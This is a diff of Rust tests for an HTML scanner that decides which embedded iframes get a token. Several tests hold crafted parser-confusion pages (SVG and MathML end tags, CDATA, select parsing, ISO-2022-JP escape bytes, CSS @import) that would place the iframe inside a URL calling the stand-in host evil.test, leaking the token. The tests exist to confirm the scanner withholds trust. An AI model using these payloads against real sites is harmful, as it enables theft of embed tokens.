@@ -121,3 +121,129 @@ fn an_unchanged_iframe_comes_out_byte_for_byte() {
         ["<iframe src=\"b\" />", "|"]
     );
 }
+
+/// Notes, for each iframe, whether the scanner trusts it with a token.
+struct Trust(Vec<bool>);
+
+impl ScanSink for Trust {
+    fn bytes(&mut self, _: &[u8]) {}
+
+    fn iframe(&mut self, tag: &mut IframeTag<'_, '_>) {
+        self.0.push(!tag.is_untrusted());
+    }
+}
+
+/// Whether each iframe of `page` is trusted, the same whole and cut in two
+/// at every byte.
+fn trusted(page: &str, xml: bool) -> Vec<bool> {
+    trusted_with(page, xml, false)
+}
+
+/// [`trusted`], with `<meta>` charsets followed when `adjust_charset`.
+fn trusted_with(page: &str, xml: bool, adjust_charset: bool) -> Vec<bool> {
+    let scan = |chunks: &[&[u8]]| {
+        let mut scanner = Scanner::new(ScanSettings {
+            encoding: AsciiCompatible::new(UTF_8).unwrap(),
+            adjust_charset,
+            max_memory: 1 << 20,
+            xml,
+        });
+        let mut sink = Trust(Vec::new());
+        for chunk in chunks {
+            scanner.write(chunk, &mut sink).unwrap();
+        }
+        scanner.end(&mut sink).unwrap();
+        sink.0
+    };
+    let whole = scan(&[page.as_bytes()]);
+    for at in 1..page.len() {
+        let (a, b) = page.as_bytes().split_at(at);
+        assert_eq!(scan(&[a, b]), whole, "{page:?} cut at {at}");
+    }
+    whole
+}
+
+#[test]
+fn no_token_after_markup_a_browser_may_read_otherwise() {
+    let embed = "<iframe src=https://v.test/embed/a.html>";
+    for (page, why) in [
+        // §13.2.6.5: `</div>` closes the div the svg is in, so a browser
+        // reads the `<![CDATA[` as a bogus comment and the iframe as part of
+        // the img's URL; the svg may as well still be open (no div open).
+        (
+            format!("<div><svg></div><![CDATA[><img src='//evil.test/?]]>{embed}'>"),
+            "an HTML end tag in SVG",
+        ),
+        (
+            format!("<span><math><mrow></span><![CDATA[><img src='//evil.test/?]]>{embed}'>"),
+            "an HTML end tag in MathML",
+        ),
+        (
+            format!("<b><svg></b><style>@import url('//evil.test/?{embed}');</style>"),
+            "an HTML end tag in SVG, then a style HTML reads as CSS",
+        ),
+        (
+            format!(
+                "<svg><foreignObject><div></foreignObject><![CDATA[><img src='//x/?]]>{embed}'>"
+            ),
+            "an integration point's end tag a special element may ignore",
+        ),
+        // Parsers before the select relaxation ignore an iframe in a select
+        // (no raw text); newer ones do not.
+        (
+            format!("<select><iframe></select><img src='//evil.test/?</iframe>{embed}'>"),
+            "a text element in a select",
+        ),
+    ] {
+        assert_eq!(trusted(&page, false).last(), Some(&false), "{why}: {page}");
+    }
+}
+
+#[test]
+fn well_formed_svg_math_and_select_keep_the_tokens_after_them() {
+    let embed = "<iframe src=https://v.test/embed/a.html>";
+    for page in [
+        format!("<div><svg><g><path d=M0></path></g><style>p{{}}</style><title>t</title></svg></div>{embed}"),
+        format!("<svg><filter><feComponentTransfer></feComponentTransfer></filter></svg><script>x</script>{embed}"),
+        format!("<svg><foreignObject>text</foreignObject><![CDATA[ x ]]></svg>{embed}"),
+        format!("<math><mrow><mi>x</mi></mrow></math><textarea>a</textarea>{embed}"),
+        format!("<svg><g><g></g></g><style>a</style></svg>{embed}"),
+        format!("<select><option>a</option><script>b</script></select><style>c</style>{embed}"),
+        // An unsure stretch that comes back to HTML before anything is read two ways.
+        format!("<div><svg></div><p>{embed}<style>x</style>{embed}"),
+    ] {
+        assert!(trusted(&page, false).iter().all(|&t| t), "{page}");
+    }
+}
+
+#[test]
+fn xhtml_reads_cdata_as_a_section_everywhere() {
+    // An XML parser reads the style's CDATA as CSS text: the iframe in it is
+    // no tag, and a token minted there would be fetched by the @import.
+    let page = "<style>/*<![CDATA[>*/@import url('//evil.test/?<iframe src=\"https://v.test/embed/a.html\"/>');/*]]>*/</style><iframe src=https://v.test/embed/b.html>";
+    assert_eq!(
+        trusted(page, true),
+        [true],
+        "only the iframe after the CDATA"
+    );
+    assert_eq!(trusted(page, false).len(), 1, "HTML: raw text, as before");
+}
+
+#[test]
+fn no_token_after_a_meta_naming_an_encoding_that_is_not_ascii_compatible() {
+    // In ISO-2022-JP, ESC $ B starts two-byte characters: the quote after
+    // it is half of one, and the iframe sits in the img's URL.
+    let attack = "<img src='//evil.test/?\x1b$B'\x1b(B><iframe src=https://v.test/embed/a.html>'>";
+    for meta in [
+        "<meta charset=\"iso-2022-jp\">",
+        // Read as browsers read `content`, not as a media type must be written.
+        "<meta http-equiv=content-type content=\"text/html;charset=iso-2022-jp; x\">",
+        "<meta charset=iso-2022-kr>",
+    ] {
+        let page = format!("{meta}{attack}");
+        assert_eq!(trusted_with(&page, false, true), [false], "{meta}");
+    }
+    // UTF-16 in a meta is read as UTF-8, whose markup is ASCII.
+    let page = "<meta charset=utf-16le><iframe src=https://v.test/embed/a.html>";
+    assert_eq!(trusted_with(page, false, true), [true]);
+}
